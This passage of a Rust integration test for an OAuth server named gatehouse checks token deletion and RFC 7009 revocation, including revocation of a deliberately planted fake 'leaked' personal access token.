    let deleted = oauth::backchannel()
        .delete(format!("{}{path}/{id}", h.url))
        .bearer_auth(&token)
        .send()
        .await
        .expect("DELETE");
    assert_eq!(deleted.status(), StatusCode::NO_CONTENT);
    let refused = oauth::backchannel().get(&userinfo).bearer_auth(secret).send().await.expect("userinfo");
    assert_eq!(refused.status(), StatusCode::UNAUTHORIZED);
    assert_eq!(get_json(&h, &path, &token).await, json!([]));
    let again = oauth::backchannel()
        .delete(format!("{}{path}/{id}", h.url))
        .bearer_auth(&token)
        .send()
        .await
        .expect("DELETE");
    assert_eq!(again.status(), StatusCode::NOT_FOUND);

    // Whoever holds a leaked token can end it at the revocation endpoint (RFC 7009).
    let leaked = "gtp_leaked-token-0123456789abcdef";
    h.state
        .store
        .create_pat(gatehouse::store::NewPat {
            realm: "flows".into(),
            user_id: alice.clone(),
            name: "leaked".into(),
            token_hash: gatehouse::crypto::sha256_hex(leaked.as_bytes()),
            scope: "openid".into(),
            expires_at: gatehouse::store::now() + 3600,
        })
        .await
        .expect("a token");
    let works = oauth::backchannel().get(&userinfo).bearer_auth(leaked).send().await.expect("userinfo");
    assert_eq!(works.status(), StatusCode::OK);
    h.realm = "flows".into();
    oauth::revoke(&h, oauth::web(), leaked, None).await;
    let refused = oauth::backchannel().get(&userinfo).bearer_auth(leaked).send().await.expect("userinfo");
    assert_eq!(refused.status(), StatusCode::UNAUTHORIZED);
});
